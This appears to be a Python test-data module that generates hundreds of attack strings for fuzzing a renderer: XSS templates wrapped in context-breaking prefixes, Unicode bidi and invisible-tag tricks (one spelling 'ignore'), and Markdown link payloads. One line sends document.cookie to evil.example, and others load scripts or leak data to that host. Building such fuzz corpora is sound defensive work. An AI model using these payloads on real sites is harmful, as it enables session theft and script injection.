"""Attacks to put into field values.

A few hundred are made here. With `RENDERCALL_CORPORA`, a folder of `attack_<kind>*.jsonl`
files with a `text` on each line, those are taken instead.
"""

from __future__ import annotations

import json
import os
from itertools import product
from pathlib import Path

__all__ = ["PAYLOADS"]


_CODE = ("alert(1)", "eval('alert(1)')", "fetch('//evil.example/'+document.cookie)")
_HANDLED = (
    "<img src=x onerror={}>", "<svg onload={}>", "<body onload={}>", "<details open ontoggle={}>",
    "<video><source onerror={}></video>", "<input autofocus onfocus={}>", "<a href=# onclick={}>x</a>",
    "<marquee onstart={}>", "<style onload={}></style>", "<audio src=x onerror={}>",
)  # fmt: skip
_LOADED = (
    "<script>{}</script>", '<iframe src="javascript:{}"></iframe>', '<a href="javascript:{}">x</a>',
    '<object data="javascript:{}"></object>', '<embed src="javascript:{}">', '<form action="javascript:{}"><button>',
    '<base href="javascript:{}//">', '<meta http-equiv=refresh content="0;url=javascript:{}">', '<math href="javascript:{}">x',
    "javascript:{}", "data:text/html,<script>{}</script>", "vbscript:{}", "<script src=//evil.example/x.js>{}</script>",
    "<link rel=stylesheet href=//evil.example/x.css>{}", "<img src=//evil.example/x.png>{}", "<iframe src=//evil.example></iframe>{}",
)  # fmt: skip
_AROUND = ("{}", '">{}', "'>{}", "</textarea>{}", "</script>{}", "]]>{}", "-->{}", "`{}`")


def _xss() -> list[str]:
    marked = [form.format(code) for form, code in product(_HANDLED + _LOADED, _CODE)]
    return [around.format(one) for around, one in product(_AROUND, marked)]


_MARKS = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200b\u200d\u200e\u200f\u2060\ufeff\u00ad"


def _unicode() -> list[str]:
    around = [f"{form}{mark}" for form, mark in product(("a{}b", "{}", "中{}文"), _MARKS)]
    marked = [one[:-1].replace("{}", one[-1]) for one in around]
    tags = "".join(chr(0xE0000 + ord(letter)) for letter in "ignore")
    emoji = "👩‍👩‍👧‍👦🏳️‍🌈🇨🇭"
    return [
        *marked,
        "a" + "\u0301" * 200,
        tags,
        emoji,
        "\u0000\u0001\u001b[31mred",
        "\ufffd\uffff\U0010ffff",
        "ﷺ" * 50,
    ]


def _markdown() -> list[str]:
    links = (
        "javascript:alert(1)",
        "//evil.example/x.png",
        "data:text/html,x",
        "https://evil.example/?q=secret",
    )
    forms = (
        "[x]({})",
        "![x]({})",
        "<{}>",
        "[x]: {}",
        "# {}",
        "```html\n{}\n```",
        "| {} |\n|---|",
        "[x](<{}> 't')",
    )
    return [form.format(link) for form, link in product(forms, links)]


def _all(kind: str) -> list[str]:
    corpora = os.environ.get("RENDERCALL_CORPORA")
    if not corpora:
        return {"xss": _xss, "unicode": _unicode, "markdown": _markdown}[kind]()
    files = sorted(Path(corpora).glob(f"attack_{kind}*.jsonl"))
    lines = [line for file in files for line in file.read_text("utf-8").splitlines()]
    texts = [json.loads(line)["text"] for line in lines]
    return [text for text in texts if text and _can_be_sent(text)]


def _can_be_sent(text: str) -> bool:
    """Not with halves of surrogate pairs: the bounds refuse those."""
    try:
        text.encode()
    except UnicodeEncodeError:
        return False
    return True


PAYLOADS = {kind: _all(kind) for kind in ("xss", "unicode", "markdown")}
"""All attacks by their kind, none empty. Read once: a server's event loop must not read files."""
